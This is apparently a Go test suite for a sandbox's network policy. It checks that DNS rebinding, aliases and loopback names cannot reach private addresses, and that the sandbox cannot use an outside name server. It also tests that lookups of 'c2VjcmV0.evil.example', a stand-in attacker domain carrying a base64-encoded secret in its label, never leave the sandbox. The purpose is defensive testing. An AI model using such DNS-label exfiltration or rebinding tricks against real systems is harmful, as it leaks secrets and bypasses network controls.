//go:build linux

package network

import (
	"net"
	"strings"
	"testing"

	policy "github.com/mayfly-run/mayfly/internal/network"
)

// TestN03_RebindingAndAliases dials names that have a private address: only after the first lookup, beside a public one, and
// through an alias.
func TestN03_RebindingAndAliases(t *testing.T) {
	i, l := newInternet(t), newLab(t)
	i.nameServer(map[string][]string{
		"rebind.example": {server4, "then", private4}, "both.example": {server4, private4},
		"alias.example": {"alias", "inside.example"}, "inside.example": {private4},
		"loop.example": {"127.0.0.1"}, "good.example": {server4},
	})
	port := i.serve(server4+":0", welcome)
	i.serve(net.JoinHostPort(private4, port), trap(t))
	loop := serveHost(t, "127.0.0.1:0", trap(t))
	var args []string
	for _, name := range []string{"good", "rebind", "rebind", "alias", "inside"} {
		args = append(args, name+".example:"+port)
	}
	args = append(args, "loop.example:"+loop)
	for name, p := range map[string]policy.Policy{"list": listPolicy(`{host: "*.example"}`), "public": public} {
		t.Run(name, func(t *testing.T) {
			var r result
			i.withNameServer(func() *live { return l.with(t).start(l.spec(p, append([]string{"client", "dial"}, args...)...)) }, &r)
			if got := r.outcomes()["good.example:"+port]; got != "ok" {
				t.Fatalf("good.example: %q\n%s", got, r.stdout+r.stderr)
			}
			r.refused(t, args[3:]...)
			r.denied(t, "tcp", private4)
			for _, c := range r.connections {
				if c.Address == private4 && c.Host == "" {
					t.Errorf("report %+v without the name that led there", c)
				}
			}
			// Only the public address was dialled.
			if c := r.connection("tcp", server4); c == nil || !c.Allowed {
				t.Errorf("report %+v", c)
			}
		})
	}
}

// TestN03_OtherNameServer asks another name server than the sandbox's, for names that the policy doesn't allow.
func TestN03_OtherNameServer(t *testing.T) {
	i, l := newInternet(t), newLab(t)
	d := i.nameServer(map[string][]string{"secret.evil.example": {server4}})
	r := l.run(listPolicy("{host: good.example}"), "ask", nameServer+":53")
	r.refused(t, nameServer+":53")
	r.denied(t, "udp", nameServer)
	r = l.start(l.spec(listPolicy("{host: good.example}"), "nslookup", "secret.evil.example", nameServer)).wait()
	if r.Code == 0 || d.count("secret.evil.example") != 0 {
		t.Errorf("asked %d times: %s%s", d.count("secret.evil.example"), r.stdout, r.stderr)
	}
}

// TestN03_OtherNamesDontLeave looks up names that no rule matches: their labels could carry a secret.
func TestN03_OtherNamesDontLeave(t *testing.T) {
	i, l := newInternet(t), newLab(t)
	d := i.nameServer(map[string][]string{"good.example": {server4}, "c2VjcmV0.evil.example": {server4}})
	port := i.serve(server4+":0", welcome)
	var r result
	i.withNameServer(func() *live {
		return l.start(l.spec(listPolicy("{host: good.example}"), "client", "dial", "good.example:"+port, "c2VjcmV0.evil.example:"+port))
	}, &r)
	if got := r.outcomes()["good.example:"+port]; got != "ok" {
		t.Errorf("good.example: %q", got)
	}
	r.refused(t, "c2VjcmV0.evil.example:"+port)
	if d.count("c2VjcmV0.evil.example") != 0 || d.count("c2vjcmv0.evil.example") != 0 {
		t.Error("the name was asked upstream")
	}
	for _, c := range r.connections {
		if !c.Allowed && (c.Host != "c2vjcmv0.evil.example" || !strings.Contains(c.Suggest, `{host: "c2vjcmv0.evil.example", ports: [`+port+`]}`)) {
			t.Errorf("report %+v", c)
		}
	}
}
